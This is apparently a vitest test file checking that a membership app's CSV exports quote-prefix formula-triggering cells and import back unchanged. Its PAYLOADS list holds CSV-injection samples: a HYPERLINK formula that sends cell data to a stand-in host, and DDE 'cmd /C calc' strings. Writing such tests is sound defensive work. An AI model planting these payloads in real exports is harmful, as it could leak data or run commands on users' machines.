// CSV injection (#11): exported cells a spreadsheet would run as formulas are quote-prefixed (OWASP), for
// members and organization names; importing the export gives back the original values.
import { readFileSync } from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTestDatabase, type TestDatabase } from "../../src/db/testing.js";
import { seedDatabase } from "../../src/seed/load.js";
import { exportMembers, exportOrganizations } from "../../src/export/index.js";
import { importMembers } from "../../src/import/members.js";
import { importOrganizations } from "../../src/import/orgs.js";
import { neutralizeFormula, restoreFormula } from "../../src/export/formula.js";
import { tmp } from "../import/helpers.js";

const PAYLOADS = ["=HYPERLINK(\"http://x.example/?a=\"&A1,\"Bấm\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "'=already quoted"];
// A tab or CR before a trigger is prefixed too, but such a value does not survive an import unchanged (the
// reader trims and drops control characters), so it is only checked by the pure functions.
const CONTROL = ["\t=1+1", "\r=1+1"];
let source: TestDatabase;
let dir: string;
const opts = { actor: "formulas", today: "2026-07-15" };

beforeAll(async () => {
  source = await openTestDatabase();
  await seedDatabase(source.db, { scale: "demo", seed: 4 });
  dir = tmp();
  // Free-text fields and organization names as a careless or hostile clerk could have typed them.
  const { rows } = await source.db.query<{ id: number }>(`SELECT id FROM member WHERE status IN ('official', 'probationary') ORDER BY id LIMIT ${PAYLOADS.length}`);
  for (const [i, r] of rows.entries()) {
    await source.db.query(`UPDATE member SET hometown = $2, occupation = $3 WHERE id = $1`, [r.id, PAYLOADS[i], PAYLOADS[(i + 1) % PAYLOADS.length]]);
  }
  const { rows: orgs } = await source.db.query<{ id: number }>(`SELECT id FROM party_organization ORDER BY id LIMIT ${PAYLOADS.length}`);
  for (const [i, o] of orgs.entries()) await source.db.query(`UPDATE party_organization SET name = $2 WHERE id = $1`, [o.id, PAYLOADS[i]]);
});
afterAll(async () => {
  await source?.close();
});

describe("formulas in exports", () => {
  it("neutralize and restore are inverse, and only trigger characters are prefixed", () => {
    for (const v of [...PAYLOADS, ...CONTROL, "Nguyễn Văn An", "01-K1", "", "'", "''=x", "a=b"]) expect(restoreFormula(neutralizeFormula(v))).toBe(v);
    expect(neutralizeFormula("=1+1")).toBe("'=1+1");
    expect(neutralizeFormula("'=1")).toBe("''=1");
    expect(neutralizeFormula("\t=1")).toBe("'\t=1");
    expect(neutralizeFormula("Hà Nội")).toBe("Hà Nội");
    expect(neutralizeFormula("It's")).toBe("It's");
  });

  it("no exported CSV cell starts a formula, and the export imports back to the same values", async () => {
    const orgsFile = path.join(dir, "orgs.csv");
    const membersFile = path.join(dir, "members.csv");
    await exportOrganizations(source.db, { path: orgsFile });
    await exportMembers(source.db, { path: membersFile });
    for (const f of [orgsFile, membersFile]) {
      const rows: string[][] = parse(readFileSync(f, "utf8"), { bom: true });
      const cells = rows.flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    }
    const members = readFileSync(membersFile, "utf8");
    expect(members).toContain("'=cmd|' /C calc'!A0");
    expect(readFileSync(orgsFile, "utf8")).toContain("'=HYPERLINK(");

    const target = await openTestDatabase();
    try {
      expect(await importOrganizations(target.db, { path: orgsFile }, opts)).toMatchObject({ ok: true });
      expect(await importMembers(target.db, { path: membersFile }, opts)).toMatchObject({ ok: true });
      const names = async (t: TestDatabase) => (await t.db.query<{ name: string }>(`SELECT name FROM party_organization WHERE name = ANY ($1) ORDER BY code`, [PAYLOADS])).rows;
      const texts = async (t: TestDatabase) =>
        (await t.db.query<{ national_id: string; hometown: string; occupation: string }>(
          `SELECT national_id, hometown, occupation FROM member WHERE hometown = ANY ($1) ORDER BY national_id`, [PAYLOADS],
        )).rows;
      expect((await names(target)).length).toBe(PAYLOADS.length);
      expect(await names(target)).toEqual(await names(source));
      expect((await texts(target)).length).toBe(PAYLOADS.length);
      expect(await texts(target)).toEqual(await texts(source));
    } finally {
      await target.close();
    }
  });
});
